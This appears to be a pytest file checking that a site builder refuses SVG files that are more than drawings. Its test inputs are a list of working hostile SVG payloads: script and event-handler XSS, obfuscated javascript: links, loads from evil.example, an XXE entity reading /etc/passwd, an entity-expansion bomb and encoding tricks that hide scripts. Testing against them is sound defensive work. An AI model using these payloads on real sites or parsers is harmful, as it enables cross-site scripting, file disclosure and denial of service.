"""An SVG file that is more than a drawing is refused, wherever it lies and whatever it is called.

The single tricks are listed in tests/unit/associations/test_svg.py; here they meet a whole site.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.hostile.oracle import SITEURL
from tests.support.sites import prepared, reported, small_site

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {}>{}</svg>'
ATTACKS = {
    "script": SVG.format("", "<script>alert(1)</script>"),
    "a script of another name space": SVG.format(
        "", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'
    ),
    "script in CDATA": SVG.format("", "<script><![CDATA[alert(1)]]></script>"),
    "a script elsewhere": SVG.format("", '<script href="https://evil.example/x.js"/>'),
    "a handler": SVG.format('onload="alert(1)"', ""),
    "a handler in capitals": SVG.format('OnLoad="alert(1)"', ""),
    "a handler of an animation": SVG.format("", '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
    "foreignObject": SVG.format(
        "", '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">x</body></foreignObject>'
    ),
    "a frame": SVG.format("", '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>'),
    "a picture elsewhere": SVG.format("", '<image xlink:href="https://evil.example/pixel.png"/>'),
    "a picture without scheme": SVG.format("", '<image href="//evil.example/pixel.png"/>'),
    "a picture beside it": SVG.format("", '<image href="../../secret.png"/>'),
    "a part of another file": SVG.format("", '<use href="https://evil.example/x.svg#a"/>'),
    "an SVG in an address": SVG.format("", '<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
    "a link that runs": SVG.format("", '<a href="javascript:alert(1)"><text>x</text></a>'),
    "a link that runs, broken up": SVG.format("", '<a xlink:href="java&#9;script:alert(1)"><text>x</text></a>'),
    "a link that comes later": SVG.format("", '<a><set attributeName="href" to="javascript:alert(1)"/></a>'),
    "a style elsewhere": SVG.format("", "<style>@import 'https://evil.example/x.css';</style>"),
    "a style elsewhere, escaped": SVG.format("", "<style>@\\69mport 'https://evil.example/x.css';</style>"),
    "a font elsewhere": SVG.format("", "<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>"),
    "a colour elsewhere": SVG.format("", '<rect fill="url(https://evil.example/#x)"/>'),
    "a base elsewhere": SVG.format('xml:base="https://evil.example/"', '<use href="#a"/>'),
    "a stylesheet": '<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>' + SVG.format("", ""),
    "a file of the machine": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + SVG.format("", "<text>&x;</text>"),
    "entities that multiply": "<!DOCTYPE svg [<!ENTITY a 'x'>"
    + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(12))
    + "]>"
    + SVG.format("", "<text>&m;</text>"),
    "a handler by default": '<!DOCTYPE svg SYSTEM ">" [<!ATTLIST svg onload CDATA "alert(1)">]>' + SVG.format("", ""),
    "HTML": "<html><script>alert(1)</script></html>",
    "HTML that is well-formed": '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
    "no end": "<svg><g>",
    "nothing": "",
    "too much of nothing": "<svg>" + " " * (6 << 20) + "</svg>",
}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("name", ["images/a.svg", "files/2022/A.SVG"])
def test_it_is_refused(tmp_path: Path, attack: str, name: str) -> None:
    """With an error at the file, used or not."""
    edition = prepared(tmp_path, small_site({name: ATTACKS[attack]}), publish=True, siteurl=SITEURL)
    assert not edition.is_sound
    assert {line for line in reported(edition) if "large-file" not in line} == {f"{name}:1: file [unsafe-svg]"}


def test_in_another_encoding_it_is_refused_too(tmp_path: Path) -> None:
    """A browser reads UTF-16 and UTF-7 where a search for `<script` sees nothing."""
    script = ATTACKS["script"]
    files = {
        "images/a.svg": script.encode("utf-16"),
        "images/b.svg": script.encode("utf-16-be"),
        "images/c.svg": b'<?xml version="1.0" encoding="UTF-7"?>' + script.encode("utf-7"),
        "images/d.svg": b'<?xml version="1.0" encoding="cp037"?>' + script.encode("cp037"),
        "images/e.svg": b"\x1f\x8b\x08\x00" + script.encode(),
    }
    assert reported(prepared(tmp_path, small_site(files))) == [f"{name}:1: file [unsafe-svg]" for name in files]
